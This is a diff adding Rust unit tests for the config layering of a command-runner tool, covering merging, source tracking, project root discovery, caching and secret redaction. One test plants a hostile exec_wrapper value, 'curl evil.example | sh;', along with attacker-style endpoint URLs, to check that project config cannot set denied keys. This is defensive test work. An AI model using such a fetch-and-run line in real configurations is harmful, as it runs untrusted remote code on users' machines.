+
+        let source = |key: &str| sources.get(key).and_then(|p| p.to_str());
+        assert_eq!(source("ui.theme"), Some("project"));
+        assert_eq!(source("ui.max_display"), Some("global"));
+        assert_eq!(source("ui.icons.npm"), Some("global"));
+        assert_eq!(source("ui.icons.make"), Some("project"));
+        assert_eq!(source("scanner.enabled"), Some("project"));
+        assert_eq!(source("aliases.0.command"), Some("project"));
+        assert_eq!(source("aliases.0.confirm"), None);
+        assert_eq!(source("aliases.1.command"), Some("global"));
+        assert_eq!(source("aliases.2.name"), Some("project"));
+    }
+
+    #[test]
+    fn test_merge_tables_value_replaces_table() {
+        let mut table: toml::Table = toml::from_str("[hooks.pre_commit]\nx = 1\n").unwrap();
+        let mut sources = BTreeMap::from([("hooks.pre_commit.x".to_string(), PathBuf::from("a"))]);
+        let over: toml::Table = toml::from_str("[hooks]\npre_commit = \"cargo test\"\n").unwrap();
+
+        merge_tables(&mut table, over, "", Path::new("b"), &mut sources);
+        assert_eq!(table["hooks"]["pre_commit"].as_str(), Some("cargo test"));
+        assert_eq!(sources.len(), 1);
+        assert_eq!(sources["hooks.pre_commit"], PathBuf::from("b"));
+    }
+
+    #[test]
+    fn test_load_with_sources_layers_local_over_project() {
+        let temp = project(&[
+            (".palrun.toml", "[ui]\ntheme = \"nord\"\nmax_display = 30\n"),
+            (".palrun.local.toml", "[ui]\ntheme = \"dracula\"\n"),
+        ]);
+
+        let (config, sources) = Config::load_layers(None, temp.path()).unwrap();
+        assert_eq!(config.ui.theme, "dracula");
+        assert_eq!(config.ui.max_display, 30);
+
+        let project = temp.path().join(".palrun.toml");
+        let local = temp.path().join(".palrun.local.toml");
+        assert!(sources.files.ends_with(&[project.clone(), local.clone()]));
+        assert_eq!(sources.source("ui.theme"), Some(local.as_path()));
+        assert_eq!(sources.source("ui.max_display"), Some(project.as_path()));
+        assert_eq!(sources.label(&project), ".palrun.toml");
+    }
+
+    #[test]
+    fn test_load_for_without_project_config() {
+        let temp = project(&[]);
+        let (config, sources) = Config::load_layers(None, temp.path()).unwrap();
+
+        assert_eq!(sources.files, Vec::<PathBuf>::new());
+        assert_eq!(sources.root, temp.path());
+        assert!(config.ui.show_preview);
+    }
+
+    #[test]
+    fn test_load_layers_reads_global_dir() {
+        let global = tempfile::TempDir::new().unwrap();
+        std::fs::write(
+            global.path().join("config.toml"),
+            "[ui]
+max_display = 10
+",
+        )
+        .unwrap();
+        let temp = project(&[(
+            ".palrun.toml",
+            "[ui]
+theme = \"nord\"\n",
+        )]);
+
+        let (config, sources) = Config::load_layers(Some(global.path()), temp.path()).unwrap();
+        assert_eq!(config.ui.max_display, 10);
+        assert_eq!(config.ui.theme, "nord");
+        assert_eq!(
+            sources.source("ui.max_display"),
+            Some(global.path().join("config.toml").as_path())
+        );
+
+        // The current file name wins over the legacy one
+        std::fs::write(
+            global.path().join("palrun.toml"),
+            "[ui]
+max_display = 20
+",
+        )
+        .unwrap();
+        let config = Config::load_layers(Some(global.path()), temp.path()).unwrap().0;
+        assert_eq!(config.ui.max_display, 20);
+    }
+
+    #[test]
+    fn test_project_config_cannot_set_denied_keys() {
+        let global = tempfile::TempDir::new().unwrap();
+        std::fs::write(
+            global.path().join("palrun.toml"),
+            "[plugins]\ntrusted_keys = [\"RWQuser\"]\n",
+        )
+        .unwrap();
+        let temp = project(&[(
+            ".palrun.toml",
+            r#"
+            [general]
+            exec_wrapper = "curl evil.example | sh;"
+            max_history = 5
+
+            [security]
+            trust_project_commands = true
+
+            [plugins]
+            registry_url = "https://plugins.example.com/index.json"
+            local_registries = ["vendor/plugins"]
+            trusted_keys = ["RWQproject"]
+            scan = false
+
+            [ai.openai]
+            base_url = "https://proxy.example.com/v1"
+        "#,
+        )]);
+
+        let (config, sources) = Config::load_layers(Some(global.path()), temp.path()).unwrap();
+        assert!(config.general.exec_wrapper.is_none());
+        assert!(!config.security.trust_project_commands);
+        assert_eq!(config.plugins.trusted_keys, ["RWQuser"]);
+        assert!(config.plugins.registry_url.is_none());
+        assert_eq!(config.plugins.local_registries, Vec::<PathBuf>::new());
+        assert!(sources.source("security.trust_project_commands").is_none());
+
+        // The rest of the file still applies
+        assert_eq!(config.general.max_history, 5);
+        assert!(!config.plugins.scan);
+
+        // Local config is the user's own and may set them
+        std::fs::write(
+            temp.path().join(".palrun.local.toml"),
+            "[security]\ntrust_project_commands = true\n",
+        )
+        .unwrap();
+        let config = Config::load_layers(Some(global.path()), temp.path()).unwrap().0;
+        assert!(config.security.trust_project_commands);
+    }
+
+    #[test]
+    #[cfg(feature = "ai")]
+    fn test_notify_endpoints_only_from_user_config() {
+        let endpoint = "[[notify.endpoints]]\nname = \"team\"\ntype = \"webhook\"\nwebhook_url = \"https://x\"\n";
+        let temp =
+            project(&[(".palrun.toml", &format!("[notify]\nthreshold_secs = 5\n\n{endpoint}"))]);
+
+        let config = Config::load_layers(None, temp.path()).unwrap().0;
+        assert!(config.notify.endpoints.is_empty());
+        assert_eq!(config.notify.threshold_secs, 5);
+
+        std::fs::write(temp.path().join(".palrun.local.toml"), endpoint).unwrap();
+        let config = Config::load_layers(None, temp.path()).unwrap().0;
+        assert!(config.notify.endpoint("team").is_some());
+    }
+
+    #[test]
+    fn test_trusted_keys_only_from_global_config() {
+        let global = tempfile::TempDir::new().unwrap();
+        let temp = project(&[(".palrun.local.toml", "[plugins]\ntrusted_keys = [\"RWQlocal\"]\n")]);
+
+        let config = Config::load_layers(Some(global.path()), temp.path()).unwrap().0;
+        assert_eq!(config.plugins.trusted_keys, Vec::<String>::new());
+
+        std::fs::write(
+            global.path().join("palrun.toml"),
+            "[plugins]\ntrusted_keys = [\"RWQuser\"]\n",
+        )
+        .unwrap();
+        let config = Config::load_layers(Some(global.path()), temp.path()).unwrap().0;
+        assert_eq!(config.plugins.trusted_keys, ["RWQuser"]);
+    }
+
+    #[test]
+    #[cfg(feature = "ai")]
+    #[serial_test::serial(openai_env)]
+    fn test_ai_endpoints_only_from_user_config() {
+        let temp = project(&[(
+            ".palrun.toml",
+            r#"
+            [ai.openai]
+            base_url = "https://collect.example.com/v1"
+            model = "gpt-4o-mini"
+
+            [ai.azure]
+            endpoint = "https://collect.example.com"
+        "#,
+        )]);
+
+        let config = Config::load_layers(None, temp.path()).unwrap().0;
+        if std::env::var_os("OPENAI_BASE_URL").is_none() {
+            assert!(config.ai.openai.base_url.is_none());
+        }
+        if std::env::var_os("AZURE_OPENAI_ENDPOINT").is_none() {
+            assert!(config.ai.azure.endpoint.is_none());
+        }
+        assert_eq!(config.ai.openai.model, "gpt-4o-mini");
+
+        std::fs::write(
+            temp.path().join(".palrun.local.toml"),
+            "[ai.openai]\nbase_url = \"http://localhost:4000/v1\"\n",
+        )
+        .unwrap();
+        let config = Config::load_layers(None, temp.path()).unwrap().0;
+        assert!(config.ai.openai.base_url.is_some());
+    }
+
+    #[test]
+    fn test_remove_keys() {
+        let mut table: toml::Table = toml::from_str(
+            r#"
+            [ai.openai]
+            base_url = "a"
+            model = "gpt-4o"
+
+            [ai.ollama]
+            base_url = "b"
+
+            [security]
+            redact_output = true
+        "#,
+        )
+        .unwrap();
+
+        let removed = remove_keys(&mut table, &["security", "ai.*.base_url", "plugins.scan"]);
+        assert_eq!(removed, ["security", "ai.ollama.base_url", "ai.openai.base_url"]);
+        assert_eq!(table["ai"]["openai"]["model"].as_str(), Some("gpt-4o"));
+        assert!(!table.contains_key("security"));
+    }
+
+    #[test]
+    fn test_annotate_sources() {
+        let temp = project(&[(
+            ".palrun.toml",
+            r#"
+            [ui]
+            theme = "nord"
+
+            [[mcp.servers]]
+            name = "files"
+            command = "mcp-files"
+
+            [mcp.servers.env]
+            ROOT = "/srv"
+        "#,
+        )]);
+
+        let (config, sources) = Config::load_layers(None, temp.path()).unwrap();
+        let toml = toml::to_string_pretty(&config).unwrap();
+        let annotated = sources.annotate(&toml);
+
+        assert!(annotated.contains("theme = \"nord\"  # .palrun.toml\n"));
+        assert!(annotated.contains("command = \"mcp-files\"  # .palrun.toml\n"));
+        assert!(annotated.contains("ROOT = \"/srv\"  # .palrun.toml\n"));
+        assert!(annotated
+            .lines()
+            .any(|line| line.starts_with("max_display = ") && !line.contains('#')));
+    }
+
+    #[test]
+    fn test_section_name() {
+        assert_eq!(section_name("[hooks]").as_deref(), Some("hooks"));
+        assert_eq!(section_name("  [mcp.servers.files]").as_deref(), Some("mcp"));
+        assert_eq!(section_name("[[aliases]]").as_deref(), Some("aliases"));
+        assert_eq!(section_name("theme = \"dark\""), None);
+    }
+
+    #[test]
+    fn test_mcp_server_entry_redacted() {
+        let env = std::collections::HashMap::from([
+            ("GITHUB_TOKEN".to_string(), "ghp_secret".to_string()),
+            ("LOG_LEVEL".to_string(), "debug".to_string()),
+        ]);
+        let entry = MCPServerEntry::new("github", "mcp-github")
+            .with_args(vec!["--stdio".to_string()])
+            .with_env(env);
+
+        let json = serde_json::to_value(entry.redacted()).unwrap();
+        assert_eq!(json["name"], "github");
+        assert_eq!(json["command"], "mcp-github");
+        assert_eq!(json["args"], serde_json::json!(["--stdio"]));
+        assert_eq!(json["env"]["GITHUB_TOKEN"], "[REDACTED]");
+        assert_eq!(json["env"]["LOG_LEVEL"], "[REDACTED]");
+        assert!(json.get("cwd").is_none());
+        assert!(!json.to_string().contains("ghp_secret"));
+
+        let remote = MCPServerEntry::http("linear", "https://mcp.linear.app/mcp").with_headers(
+            std::collections::HashMap::from([(
+                "Authorization".to_string(),
+                "Bearer lin_secret".to_string(),
+            )]),
+        );
+        let json = serde_json::to_value(remote.redacted()).unwrap();
+        assert_eq!(json["url"], "https://mcp.linear.app/mcp");
+        assert_eq!(json["headers"]["Authorization"], "[REDACTED]");
+        assert!(json.get("command").is_none());
+    }
+
+    #[test]
+    fn test_find_project_root_from_nested_dir() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let root = temp.path();
+        std::fs::create_dir(root.join(".git")).unwrap();
+        std::fs::write(root.join(".palrun.toml"), "[ui]\ntheme = \"nord\"\n").unwrap();
+        let nested = root.join("packages").join("web").join("src");
+        std::fs::create_dir_all(&nested).unwrap();
+
+        assert_eq!(Config::find_project_root(&nested).as_deref(), Some(root));
+        assert_eq!(Config::find_project_root(root).as_deref(), Some(root));
+
+        let config = Config::load_for(&nested).unwrap();
+        assert_eq!(config.ui.theme, "nord");
+    }
+
+    #[test]
+    fn test_find_project_root_prefers_nearest() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let app = temp.path().join("app");
+        std::fs::create_dir_all(app.join("src")).unwrap();
+        std::fs::write(temp.path().join(".palrun.toml"), "").unwrap();
+        std::fs::write(app.join("palrun.toml"), "").unwrap();
+
+        assert_eq!(Config::find_project_root(&app.join("src")), Some(app));
+    }
+
+    #[test]
+    fn test_find_project_root_stops_at_git_root() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let repo = temp.path().join("repo");
+        let nested = repo.join("src");
+        std::fs::create_dir_all(&nested).unwrap();
+        std::fs::create_dir(repo.join(".git")).unwrap();
+        std::fs::write(temp.path().join(".palrun.toml"), "").unwrap();
+
+        assert_eq!(Config::find_project_root(&nested), None);
+    }
+
+    #[test]
+    fn test_exec_wrapper_config() {
+        let toml_str = r#"
+            [general]
+            exec_wrapper = "docker compose exec app"
+            exec_wrapper_sources = ["npm"]
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        let wrapper = config.general.wrapper().unwrap();
+        assert_eq!(wrapper.prefix, "docker compose exec app");
+        assert_eq!(wrapper.sources, vec!["npm"]);
+        assert!(Config::default().general.wrapper().is_none());
+    }
+
+    #[test]
+    fn test_default_timeout_config() {
+        let config: Config = toml::from_str("[general]\ndefault_timeout = 90\n").unwrap();
+        assert_eq!(config.general.timeout(), Some(std::time::Duration::from_secs(90)));
+        assert!(Config::default().general.timeout().is_none());
+    }
+
+    #[cfg(feature = "git")]
+    #[test]
+    fn test_hooks_accept_command_lists() {
+        let toml_str = r#"
+[hooks]
+pre_commit = ["cargo fmt --check", "cargo test"]
+pre_push = "cargo build --release"
+"#;
+        let config: Config = toml::from_str(toml_str).unwrap();
+
+        assert_eq!(
+            config.hooks.commands_for("pre-commit"),
+            vec!["cargo fmt --check", "cargo test"]
+        );
+        assert_eq!(config.hooks.commands_for("pre-push"), vec!["cargo build --release"]);
+        assert_eq!(config.hooks.commands_for("post-merge"), Vec::<String>::new());
+        assert_eq!(config.hooks.get_configured_hooks().len(), 2);
+
+        let err = toml::from_str::<Config>("[hooks]\npre_commit = 1\n").unwrap_err();
+        assert!(err.to_string().contains("a command or a list of commands"));
+    }
+
+    #[test]
+    fn test_exec_cache_config() {
+        let toml_str = r#"
+            [exec.cache]
+            enabled = true
+            ttl_secs = 60
+            commands = ["mvn dependency:tree"]
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        let cache = &config.exec.cache;
+        assert!(cache.enabled);
+        assert_eq!(cache.ttl_secs, 60);
+
+        let listed = crate::core::Command::new("deps", "mvn dependency:tree");
+        let tagged = crate::core::Command::new("tree", "gradle dependencies").with_tag("cacheable");
+        let other = crate::core::Command::new("build", "mvn package");
+        assert!(cache.allows(&listed));
+        assert!(cache.allows(&tagged));
+        assert!(!cache.allows(&other));
+        assert!(!ExecCacheConfig::default().allows(&tagged));
+
+        let files = cache.watched_files(&listed, Path::new("/project"));
+        assert!(files.contains(&PathBuf::from("/project/pom.xml")));
+    }
+
+    #[test]
+    fn test_project_can_disable_exec_cache() {
+        let global = tempfile::TempDir::new().unwrap();
+        std::fs::write(
+            global.path().join("palrun.toml"),
+            "[exec.cache]\nenabled = true\nttl_secs = 60\n",
+        )
+        .unwrap();
+        let temp = project(&[(".palrun.toml", "[exec.cache]\nenabled = false\n")]);
+
+        let config = Config::load_layers(Some(global.path()), temp.path()).unwrap().0;
+        assert!(!config.exec.cache.enabled);
+        assert_eq!(config.exec.cache.ttl_secs, 60);
+    }
 }